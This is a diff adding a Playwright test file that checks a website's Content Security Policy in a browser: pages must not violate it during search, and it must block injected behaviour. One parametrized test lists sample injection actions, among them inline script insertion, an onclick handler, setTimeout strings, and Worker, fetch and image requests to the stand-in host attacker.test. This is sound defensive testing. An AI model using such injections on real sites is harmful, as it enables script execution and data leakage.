@@ -1,0 +1,70 @@
+"""The policy of the pages in a browser: nothing breaks it while the site is used, and it stops what it is for."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+from test_browser import PREFIXES, TEMPLATES, search
+
+LISTEN = """document.addEventListener('securitypolicyviolation',
+    event => { (window.broken ??= []).push(`${event.violatedDirective}: ${event.blockedURI} ${event.sample}`); })"""
+MORE = {"matrix": "matrix/", "coverage": "coverage/", "opportunities": "opportunities/", "timeline": "timeline/"}
+
+
+def broken(page: Page) -> list[str]:
+    return page.evaluate("window.broken ?? []")
+
+
+@pytest.mark.parametrize("language", PREFIXES)
+@pytest.mark.parametrize("template", {**TEMPLATES, **MORE})
+def test_no_page_breaks_its_own_policy_while_it_is_searched(page: Page, address: str, template: str, language: str) -> None:
+    page.add_init_script(LISTEN)
+    page.goto(address + PREFIXES[language] + {**TEMPLATES, **MORE}[template], wait_until="networkidle")
+    assert search(page, "protection")
+    assert broken(page) == []
+
+
+@pytest.mark.parametrize("language", PREFIXES)
+def test_explore_keeps_the_policy(page: Page, address: str, language: str) -> None:
+    page.add_init_script(LISTEN)
+    page.goto(address + PREFIXES[language] + "explore/", wait_until="networkidle")
+    page.locator("[name=kind]").first.check()
+    page.fill("#finder-words", "protection")
+    expect(page).to_have_url(re.compile("q=protection"))
+    page.wait_for_load_state("networkidle")
+    assert broken(page) == []
+
+
+def test_the_worker_of_the_search_runs(page: Page, address: str) -> None:
+    workers: list[str] = []
+    page.on("worker", lambda worker: workers.append(worker.url))
+    page.goto(address)
+    assert search(page, "protection")
+    assert [url for url in workers if url.endswith("pagefind-worker.js")]
+
+
+@pytest.mark.parametrize(
+    "act",
+    [
+        "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
+        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))",
+        "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click()",
+        "new Worker('https://attacker.test/x.js')",
+        "setTimeout('window.ran = 1')",
+        "fetch('https://attacker.test/')",
+        "Object.assign(new Image(), {src: 'https://attacker.test/x.png'})",
+    ],
+)
+def test_the_policy_stops_what_a_script_of_somebody_else_would_do(chromium: Browser, address: str, act: str) -> None:
+    opened = chromium.new_page()
+    answered: list[str] = []
+    opened.route("https://attacker.test/**", lambda route: route.fulfill(body="window.ran = 1"))
+    opened.on("requestfinished", lambda request: answered.append(request.url))
+    opened.goto(address)
+    opened.evaluate(f"() => {{ try {{ {act} }} catch (error) {{ window.stopped = String(error) }} }}")
+    opened.wait_for_timeout(100)
+    assert opened.evaluate("window.ran") is None
+    assert not [url for url in answered if "attacker.test" in url]
+    opened.close()
